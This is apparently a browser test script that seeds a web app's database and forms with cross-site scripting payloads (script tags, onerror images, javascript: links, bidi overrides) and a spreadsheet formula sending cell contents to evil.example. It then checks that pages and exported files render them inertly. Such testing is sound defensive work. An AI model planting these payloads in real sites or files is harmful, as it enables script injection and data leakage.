// hostile.mjs - what strangers write is text, on every page and in every file.
import { inflateRawSync } from 'node:zlib';
import { URL_, check, done, fail, group, has, is, person, sign_in, sql } from './lib.mjs';
import { pages } from './pages.mjs';

const EVIL = `<script>alert(1)</script>"'><img src=x onerror=alert(2)></textarea></title><!-- {{7*7}} \u202egnirts\u202c`;
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1)';
const q = (s) => `'${s.replaceAll("'", "''")}'`;
const LONG_BYTES = 1 << 20;

function poison() {
    const all = (table, columns) => columns.map((c) => `UPDATE ${table} SET ${c} = ${q(EVIL)} || COALESCE(${c}, '');`).join('\n');
    const g = group('Is the preparatory course'), word = group('Northfieldphysicsmaster');
    sql(`${all('question', ['text', 'body'])} ${all('page', ['title'])} ${all('draft', ['answer', 'asked', 'owner', 'model'])}
        ${all('gap', ['why', 'owner'])} ${all('decision', ['reason', 'text'])}
        UPDATE post SET title = ${q(EVIL)} || title, body = ${q(EVIL)} || body, tags = ${q(EVIL)}, permalink = 'javascript:alert(3)//' || id;
        UPDATE post_match SET words = ${q(EVIL)};
        UPDATE url SET reason = ${q(EVIL)}, label = ${q(EVIL)};
        UPDATE url SET address = 'javascript:alert(4)//' || id WHERE kind = 'page' AND id % 2 = 0;
        UPDATE draft SET link = 'javascript:alert(5)' WHERE id % 2 = 0;
        UPDATE decision SET arg = ${q(EVIL)} WHERE verb IN ('hand-over', 'needs-page');
        UPDATE posting SET url = 'javascript:alert(6)';
        UPDATE account SET full_name = ${q(EVIL)}, mail = ${q(EVIL)} WHERE name IN ('eva', 'ada');
        UPDATE crawl_run SET outcome = ${q(EVIL)};
        UPDATE fetch SET outcome = ${q(EVIL)} WHERE id % 3 = 0;
        UPDATE queue SET owner = ${q(EVIL)}, escalation = ${q(EVIL)} WHERE group_id % 3 = 0;
        INSERT INTO note (group_id, text, actor, at_s) SELECT group_id, ${q(EVIL)}, ${q(EVIL)}, 1 FROM queue;
        INSERT INTO typed (group_id, actor, revision, text, at_s) VALUES (${g}, 'ada', 0, ${q(EVIL)}, 1);
        INSERT INTO lease (group_id, actor, since_s, until_s) SELECT group_id, ${q(EVIL)}, 1, 9000000000 FROM queue WHERE group_id % 5 = 0;
        INSERT OR REPLACE INTO stale (draft_id, revision, why, was, "is", at_s)
            SELECT draft_id, revision, ${q(EVIL)}, ${q(EVIL)}, ${q(EVIL)}, 1 FROM queue WHERE state = 'approved';
        UPDATE queue SET state = 'stale' WHERE state = 'approved' AND group_id % 2 = 0;
        UPDATE question SET text = ${q(FORMULA)} WHERE id % 4 = 1;
        UPDATE question SET text = 'W' || replace(hex(zeroblob(${LONG_BYTES / 2})), '0', 'o') WHERE id = (SELECT head_id FROM question_group WHERE id = ${word})`);
    return word;
}

// What an escape that was forgotten leaves in a page.
const look = () => {
    const out = [], told = (e) => e.outerHTML.slice(0, 160);
    for (const e of document.querySelectorAll('script, img, iframe, object, embed, base, meta[http-equiv], style'))
        if (!(e.matches('script') && /^\/static\//.test(e.getAttribute('src') || ''))) out.push(`stands in the page: ${told(e)}`);
    for (const e of document.querySelectorAll('*')) {
        for (const a of e.attributes) {
            if (/^on/i.test(a.name) || a.name === 'style') out.push(`${a.name} on ${told(e)}`);
            if (/^(href|src|action|formaction)$/.test(a.name) && /^\s*(javascript|data|vbscript):/i.test(a.value)) out.push(`leads to a script: ${told(e)}`);
        }
        if (e.matches('a[href^="http"]') && e.origin !== location.origin && e.rel !== 'noopener noreferrer nofollow') out.push(`no rel: ${told(e)}`);
    }
    // Letters that turn the writing around reach no further than their own text.
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (walker.nextNode()) {
        const t = walker.currentNode;
        if (!/[\u202a-\u202e\u2066-\u2069]/.test(t.data)) continue;
        let e = t.parentElement;
        while (e && getComputedStyle(e).display.startsWith('inline') && !/isolate|plaintext/.test(getComputedStyle(e).unicodeBidi)) e = e.parentElement;
        if (!/isolate|plaintext/.test(getComputedStyle(e).unicodeBidi) && e.textContent.trim() !== t.data.trim())
            out.push(`turns what is beside it: ${t.data.slice(-60)} in ${told(e)}`);
    }
    const over = document.documentElement.scrollWidth - innerWidth;
    if (over > 0) out.push(`${over} px too wide`);
    return [...new Set(out)].slice(0, 4);
};

// ---- files ----

// Members of an .xlsx: it is a zip.
function unzip(b) {
    const files = {};
    let at = b.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'));
    const n = b.readUInt16LE(at + 10);
    at = b.readUInt32LE(at + 16);
    for (let i = 0; i < n; i++) {
        const [method, packed, name_n, extra_n, comment_n, from] = [b.readUInt16LE(at + 10), b.readUInt32LE(at + 20),
            b.readUInt16LE(at + 28), b.readUInt16LE(at + 30), b.readUInt16LE(at + 32), b.readUInt32LE(at + 42)];
        const name = b.toString('utf8', at + 46, at + 46 + name_n);
        const data = from + 30 + b.readUInt16LE(from + 26) + b.readUInt16LE(from + 28);
        const raw = b.subarray(data, data + packed);
        files[name] = (method === 8 ? inflateRawSync(raw) : raw).toString('utf8');
        at += 46 + name_n + extra_n + comment_n;
    }
    return files;
}

function cells(csv) {
    const out = [];
    for (const m of csv.matchAll(/(?:^|[,\n])(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)) out.push(m[1] ?? m[2] ?? '');
    return out;
}

const FILES = {
    csv: (b) => { for (const c of cells(b.toString())) if (/^[=+@\t\r]|^-\D/.test(c)) return `a formula: ${c.slice(0, 60)}`; },
    xlsx: (b) => {
        for (const [name, xml] of Object.entries(unzip(b)))
            if (/worksheets\//.test(name) && /<f[ >]/.test(xml)) return `a formula in ${name}`;
            else if (/Target="(?!https?:|[.]{2}\/)/.test(xml) && /hyperlink/.test(xml)) return `a link to no page in ${name}`;
    },
    json: (b) => { JSON.parse(b); },
    jsonld: (b) => { JSON.parse(b); },
    jsonl: (b) => { for (const l of b.toString().trim().split('\n')) if (l) JSON.parse(l); },
    atom: () => undefined, // read below, by the browser
    html: (b) => (/<script(?! type="application\/ld\+json")|<img|href="javascript/i.test(b.toString()) ? 'markup of strangers' : undefined),
    md: (b) => (/^<script|\]\(javascript:/m.test(b.toString()) ? 'markup of strangers' : undefined),
};

async function file(page, address) {
    const kind = new URL(address).pathname.split('.').pop();
    const r = await page.request.get(address);
    const b = await r.body(), h = r.headers();
    if (r.status() !== 200) { fail(`${address}: ${r.status()}`); return; }
    is(`${address}: nosniff`, h['x-content-type-options'], 'nosniff');
    check(!/text\/html/.test(h['content-type']) || /attachment/.test(h['content-disposition'] || ''), `${address} is shown as a page`);
    let why;
    try { why = FILES[kind] ? FILES[kind](b) : 'no kind of file that is known here'; } catch (e) { why = e.message; }
    if (kind === 'atom') why = await page.evaluate((xml) => {
        const d = new DOMParser().parseFromString(xml, 'application/xml');
        if (d.querySelector('parsererror')) return d.querySelector('parsererror').textContent;
        for (const e of d.querySelectorAll('*')) if (!/Atom/.test(e.namespaceURI)) return `element ${e.tagName}`;
        for (const e of d.querySelectorAll('link')) if (/^javascript/.test(e.getAttribute('href'))) return 'a link to a script';
    }, b.toString());
    if (why) fail(`${address}: ${why}`);
}

// ---- go ----

const evil = await person({ userAgent: 'Mozilla/5.0 <script>alert(7)</script>' });
await sign_in(evil, 'eva');
await evil.goto(`${URL_}/profile`);
await evil.fill('[name=full_name]', EVIL);
await Promise.all([evil.waitForNavigation({ waitUntil: 'domcontentloaded' }), evil.locator('form').filter({ has: evil.locator('[name=full_name]') }).locator('button').click()]);
const all = pages();
const word = poison();

const page = await person();
page.on('dialog', (d) => { fail(`a dialog on ${page.url()}: ${d.message()}`); d.dismiss(); });
await sign_in(page, 'ada');
const links = new Set();
for (const [name, address] of [...all, ['people-eva', '/people/eva'], ['the long one', `/g/${word}`], ['found', '/q/?find=script']]) {
    const r = await page.goto(URL_ + address);
    check(r.status() < 400 || name === 'error-404', `${name}: ${r.status()}`);
    for (const what of await page.evaluate(look)) fail(`${name}: ${what}`);
    for (const a of await page.evaluate(() => [...document.querySelectorAll('a[href]')].map((x) => x.href))) links.add(a.replace(/#.*/, ''));
}
await page.goto(`${URL_}/g/${group('taught in English')}`);
has('as text', await page.textContent('h1'), '<script>alert(1)</script>');
has('as text', await page.textContent('.notes'), '<img src=x onerror=alert(2)>');

// Every link leads somewhere; every file is harmless.
let files = 0;
for (const address of links) {
    if (!address.startsWith(URL_)) continue;
    if (/\.(csv|xlsx|json|jsonl|jsonld|atom|md|html)(\?|$)/.test(address)) { files++; await file(page, address); }
    else if (/\/g\/\d+/.test(address) && links.size > 60 && Number(address.match(/\/g\/(\d+)/)[1]) % 4) continue;
    else if (!/\/no-such-page$/.test(address)) { const r = await page.request.get(address); check(r.status() === 200, `${address}: ${r.status()}`); }
}
check(files > 8, `${files} files`);
await done();
